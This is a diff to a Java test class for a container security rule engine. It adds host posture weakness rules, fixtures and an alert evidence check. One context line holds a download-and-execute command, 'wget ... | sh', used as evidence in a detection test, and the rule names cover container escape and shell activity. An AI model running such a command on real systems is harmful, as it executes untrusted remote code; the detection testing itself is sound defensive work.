@@ -19,7 +19,8 @@ class BundledRulesTest {
         assertEquals(List.of(), LOADED.problems());
         assertEquals(List.of("privileged_container_started", "dangerous_capability_added", "docker_socket_mounted",
                 "sensitive_host_mount", "host_namespace_shared", "container_exec_session", "shell_in_container",
-                "fork_bomb", "memory_exhaustion", "container_oom_killed", "cpu_saturation"),
+                "fork_bomb", "memory_exhaustion", "container_oom_killed", "cpu_saturation",
+                "host_posture_weakness", "host_posture_critical_weakness"),
                 LOADED.ruleSet().rules().stream().map(Rule::id).toList());
     }
 
@@ -28,7 +29,9 @@ class BundledRulesTest {
         for (Rule rule : LOADED.ruleSet().rules()) {
             assertFalse(rule.description().isBlank(), rule.id());
             assertTrue(rule.tags().stream().anyMatch(t -> t.matches("mitre\\.T\\d{4}(\\.\\d{3})?")), rule.id());
-            assertTrue(rule.output().contains("{container.name}"), rule.id());
+            // Posture findings are often about the host, which has no container to name.
+            assertTrue(rule.output().contains("{container.name}") || rule.origin().equals("bundled/posture.yaml"),
+                    rule.id());
             assertTrue(rule.origin().startsWith("bundled/"), rule.id());
         }
     }
@@ -43,6 +46,8 @@ class BundledRulesTest {
         "container_start_host_namespaces, host_namespace_shared",
         "docker_exec,                    container_exec_session",
         "exec_shell_in_container,        shell_in_container",
+        "posture_open_critical,          host_posture_critical_weakness",
+        "posture_open_high_container,    host_posture_weakness",
     })
     void positiveFixtureFiresExactlyItsRule(String fixture, String rule) {
         assertEquals(List.of(rule), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
@@ -58,6 +63,8 @@ class BundledRulesTest {
         "exec_shell_on_host",           // a host process named sh
         "exec_shell_allowed_label",     // the container opts out with dockward.allow-shell=true
         "exec_httpd_in_container",      // a process in a container that is no shell
+        "posture_resolved_critical",    // a weakness that went away
+        "posture_open_low",             // a low finding stays an event
     })
     void negativeFixtureFiresNothing(String fixture) {
         assertEquals(List.of(), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
@@ -118,6 +125,18 @@ class BundledRulesTest {
         assertEquals("web", ((Map<?, ?>) doc.get("container")).get("name"));
         assertEquals(Map.of("cmdline", "sh -c wget -qO- http://10.0.0.5/x | sh", "exe", "/bin/busybox",
                 "ppid", 4242L, "uid", 0L), doc.get("evidence"));
+    }
+
+    @Test
+    void postureAlertCarriesTheFindingAndItsRemediation() {
+        Map<String, Object> event = Fixtures.event("posture_open_critical");
+        RuleMatch m = ENGINE.evaluate(event).get(0);
+        assertEquals("docker_api_tcp_without_tls", m.evidence().get("finding"));
+        assertEquals("2.7", m.evidence().get("cis"));
+        assertEquals("127.0.0.1:23751", m.evidence().get("instance"));
+        assertTrue(m.summary().startsWith("critical posture weakness docker_api_tcp_without_tls: the Docker API listens on"),
+                m.summary());
+        assertTrue(String.valueOf(m.evidence().get("remediation")).startsWith("Remove the tcp://"));
     }
 
     @Test
